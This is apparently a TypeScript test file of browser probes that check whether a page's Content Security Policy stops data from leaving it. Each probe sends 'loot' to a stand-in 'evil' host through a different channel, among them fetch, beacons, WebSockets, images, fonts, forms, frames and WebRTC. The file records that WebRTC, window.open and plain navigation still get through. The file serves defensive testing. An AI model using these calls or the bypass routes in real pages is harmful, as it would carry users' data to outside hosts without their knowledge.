import type { Probe } from './probe.ts'

/** Carrying something away. */
export const exfiltrationProbes: readonly Probe[] = [
  {
    tries: '`fetch` to another site',
    outcome: 'blocked',
    because: '`connect-src` names the API and the pool alone',
    run: async ({ evil }) =>
      fetch(`${evil}/fetch`, { mode: 'no-cors' }).then(
        () => 'possible' as const,
        () => 'blocked' as const,
      ),
  },
  {
    tries: '`navigator.sendBeacon` to another site',
    outcome: 'blocked',
    because: '`connect-src`',
    run: async ({ evil }) => {
      navigator.sendBeacon(`${evil}/beacon`, 'x')
      return undefined
    },
  },
  {
    tries: 'A WebSocket to another site',
    outcome: 'blocked',
    because: '`connect-src`',
    run: async ({ evil }) => {
      try {
        new WebSocket(`${evil.replace('http', 'ws')}/socket`)
      } catch {
        return 'blocked'
      }
      return undefined
    },
  },
  {
    tries: 'An `EventSource` on another site',
    outcome: 'blocked',
    because: '`connect-src`',
    run: async ({ evil }) => {
      try {
        new EventSource(`${evil}/events`)
      } catch {
        return 'blocked'
      }
      return undefined
    },
  },
  {
    tries: 'A picture from another site, with the loot in its address',
    outcome: 'blocked',
    because: "`img-src 'self'`",
    run: async ({ evil }) => {
      new Image().src = `${evil}/image?loot`
      return undefined
    },
  },
  {
    tries: 'A style sheet from another site',
    outcome: 'blocked',
    because: "`style-src 'self'`",
    run: async ({ evil }) => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.href = `${evil}/style.css`
      document.head.append(link)
      return undefined
    },
  },
  {
    tries: 'A background picture, set through the style of an element',
    outcome: 'blocked',
    because: "`img-src 'self'`",
    run: async ({ evil }) => {
      document.body.style.backgroundImage = `url(${evil}/background?loot)`
      return undefined
    },
  },
  {
    tries: 'A font from another site',
    outcome: 'blocked',
    because: "`font-src 'self'`",
    run: async ({ evil }) => {
      await new FontFace('probe', `url(${evil}/font)`).load().catch(() => undefined)
      return undefined
    },
  },
  {
    tries: '`<link rel="prefetch">` of another site',
    outcome: 'blocked',
    because: "`default-src 'none'`",
    run: async ({ evil }) => {
      const link = document.createElement('link')
      link.rel = 'prefetch'
      link.href = `${evil}/prefetch?loot`
      document.head.append(link)
      return undefined
    },
  },
  {
    tries: 'Reach a server of its own over WebRTC',
    leaves: true,
    outcome: 'possible',
    because: '`connect-src` does not cover it, and Chromium knows no directive that does',
    run: async ({ datagrams }) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${datagrams}` }] })
      connection.createDataChannel('loot')
      await connection.setLocalDescription(await connection.createOffer())
      return undefined
    },
  },
  {
    tries: 'Submit a form to another site',
    leaves: 'for the evil site',
    outcome: 'blocked',
    because: "`form-action 'none'`",
    run: async ({ evil }) => {
      const form = document.createElement('form')
      form.action = `${evil}/form`
      form.method = 'post'
      document.body.append(form)
      form.submit()
      return undefined
    },
  },
  {
    tries: 'A frame of another site',
    outcome: 'blocked',
    because: "`frame-src 'none'`",
    run: async ({ evil }) => {
      const frame = document.createElement('iframe')
      frame.src = `${evil}/frame?loot`
      document.body.append(frame)
      return undefined
    },
  },
  {
    tries: 'Open a window of another site, with the loot in its address',
    leaves: true,
    outcome: 'possible',
    because: 'no policy stops a navigation; without a click the pop-up blocker may',
    run: async ({ evil }) => {
      window.open(`${evil}/window?loot`)
      return undefined
    },
  },
  {
    tries: 'Leave for another site, with the loot in its address',
    leaves: 'for the evil site',
    outcome: 'possible',
    because: 'no policy stops a navigation: `connect-src` is no wall against it',
    run: async ({ evil }) => {
      location.href = `${evil}/navigation?loot`
      return undefined
    },
  },
]
